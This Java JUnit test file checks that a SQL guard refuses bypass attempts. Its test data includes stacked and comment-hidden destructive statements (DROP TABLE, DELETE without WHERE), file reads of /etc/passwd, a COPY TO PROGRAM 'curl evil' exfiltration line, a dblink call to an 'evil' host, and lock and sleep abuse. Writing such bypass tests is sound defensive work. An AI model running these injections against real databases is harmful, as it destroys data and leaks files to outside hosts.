package dev.runbook.engine.sql;

import static dev.runbook.engine.sql.SqlContext.CHANGE;
import static dev.runbook.engine.sql.SqlContext.QUERY;
import static org.junit.jupiter.api.Assertions.assertFalse;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attempts to get a write, a second statement, a change without WHERE or a dangerous call past the
 * guards: through comments, casing, CTEs, dollar quoting, dialect quirks and separators. Every one
 * must be refused (at least one finding); which rule words it is SqlGuardTest's business.
 */
class SqlGuardBypassTest {

  private static void assertRefused(String sql, SqlContext context) {
    SqlAnalysis analysis = SqlGuard.analyze(sql, context);
    assertFalse(analysis.ok(), context + " accepted: " + sql);
  }

  /** A read-only query (sql.query, sql.export, verify) that would write or run something. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        // data-modifying CTEs, any casing and spacing
        "WITH x AS (DELETE FROM invoices RETURNING *) SELECT * FROM x",
        "with x as (delete from invoices returning *) select * from x",
        "WiTh x As (UpDaTe invoices SeT total = 0 ReTuRnInG id) SeLeCt * FrOm x",
        "WITH a AS (SELECT 1), b AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM a, b",
        "WITH RECURSIVE x AS (DELETE FROM t RETURNING *) SELECT 1",
        "WITH x AS (SELECT 1) DELETE FROM invoices WHERE id = 1",
        "SELECT * FROM (WITH y AS (DELETE FROM t RETURNING *) SELECT * FROM y) z",
        // a second statement after the query, however it is separated or hidden
        "SELECT 1; DELETE FROM invoices",
        "SELECT 1;DELETE FROM invoices WHERE id = 1",
        "SELECT 1 ; ; DROP TABLE invoices",
        "SELECT 1 /* ; */ ; DELETE FROM invoices",
        "SELECT 1 -- comment\n; UPDATE invoices SET total = 0",
        "SELECT $$;$$; DELETE FROM invoices",
        "SELECT $tag$ ; $tag$; DELETE FROM invoices",
        "SELECT 'it''s'; DELETE FROM invoices",
        "SELECT E'\\''; DELETE FROM invoices; --'",
        "SELECT 1\nGO\nDELETE FROM invoices",
        // writes and locks dressed as reads
        "SELECT * INTO copy FROM invoices",
        "SELECT * FROM invoices FOR UPDATE",
        "select * from invoices for no key update",
        "SELECT * FROM invoices FOR SHARE",
        "SELECT * FROM invoices FOR KEY SHARE",
        "EXPLAIN ANALYZE DELETE FROM invoices",
        "DELETE FROM invoices WHERE id = 1 RETURNING *",
        "UPDATE invoices SET total = 0 WHERE id = 1",
        "INSERT INTO invoices (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = 0",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "TRUNCATE invoices",
        "DROP TABLE invoices",
        "CALL purge()",
        "DO $$ BEGIN DELETE FROM invoices; END $$",
        "COPY invoices TO PROGRAM 'curl evil'",
        "SET ROLE postgres",
        "BEGIN",
        "LOCK TABLE invoices",
        // side-effecting functions
        "SELECT pg_sleep(60)",
        "SELECT PG_TERMINATE_BACKEND(42)",
        "SELECT pg_cancel_backend(42)",
        "SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS x(a int)",
        // MySQL/MariaDB quirks
        "/*!50000 DELETE FROM invoices */ SELECT 1",
        "SELECT 1 /*! ; DELETE FROM invoices */",
        "SELECT 1 # comment\n; DELETE FROM invoices",
        "SELECT 1 INTO OUTFILE '/tmp/x'",
        "SELECT SLEEP(60)",
        "SELECT BENCHMARK(100000000, MD5('x'))",
        // files, and session state that would outlive the query on a pooled connection (these
        // were accepted before this test; nextval/setval stay allowed: PostgreSQL refuses them in
        // the worker's READ ONLY transaction, and a change may need nextval)
        "SELECT set_config('role', 'postgres', false)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_try_advisory_lock_shared(1)",
        "VALUES (pg_sleep(60))",
        "SELECT * FROM invoices WHERE id = 1 UNION SELECT pg_sleep(60)",
        "SELECT (SELECT pg_sleep(60))",
        "SELECT pg_catalog.pg_sleep(60)",
        "SELECT \"pg_sleep\"(60)",
        "SELECT load_file('/etc/passwd')",
        "SELECT GET_LOCK('x', 10)",
        "SELECT get_lock('x', 10)",
        "TABLE invoices; DELETE FROM invoices",
      })
  void aQueryCannotWrite(String sql) {
    assertRefused(sql, QUERY);
  }

  /** A change (sql.change) must be one statement with a real WHERE, and no DDL. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        // WHERE hidden in comments or strings
        "UPDATE invoices SET total = 0 -- WHERE id = 1",
        "UPDATE invoices SET total = 0 /* WHERE id = 1 */",
        "UPDATE invoices SET note = 'WHERE id = 1'",
        "DELETE FROM invoices # WHERE id = 1",
        "DELETE FROM invoices /*! WHERE id = 1 */",
        "delete from invoices --WHERE id = 1",
        // always-true WHEREs
        "UPDATE invoices SET total = 0 WHERE true",
        "UPDATE invoices SET total = 0 WHERE TRUE",
        "UPDATE invoices SET total = 0 WHERE (true)",
        "DELETE FROM invoices WHERE 1 = 1",
        "DELETE FROM invoices WHERE 1=1",
        "delete from invoices where 1",
        "DELETE FROM invoices WHERE 'a' = 'a'",
        // no WHERE behind a CTE, a USING, a LIMIT
        "WITH x AS (SELECT 1) UPDATE invoices SET total = 0",
        "DELETE FROM invoices USING customers",
        "DELETE FROM invoices LIMIT 10",
        // a second statement, however separated or hidden
        "UPDATE invoices SET total = 0 WHERE id = 1; DELETE FROM invoices",
        "UPDATE invoices SET total = 0 WHERE id = 1;DELETE FROM invoices WHERE id = 2",
        "UPDATE invoices SET note = $$;$$ WHERE id = 1; DROP TABLE invoices",
        "UPDATE invoices SET total = 0 WHERE id = 1; COMMIT",
        "UPDATE invoices SET total = 0 WHERE id = 1 /*! ; DROP TABLE invoices */",
        "DELETE FROM invoices WHERE id = 1\nGO\nDELETE FROM invoices",
        // DDL and transaction control
        "TRUNCATE invoices",
        "truncate table invoices",
        "DROP TABLE invoices",
        "ALTER TABLE invoices DROP COLUMN total",
        "CREATE TABLE x (a int)",
        "GRANT ALL ON invoices TO public",
        "COMMIT",
        "ROLLBACK",
        "DO $$ BEGIN DELETE FROM invoices; END $$",
        // dangerous calls inside an otherwise fine change
        "UPDATE invoices SET total = 0 WHERE id = 1 RETURNING pg_sleep(60)",
        "DELETE FROM invoices WHERE id = (SELECT pg_terminate_backend(42))",
      })
  void aChangeCannotEscapeItsRules(String sql) {
    assertRefused(sql, CHANGE);
  }
}
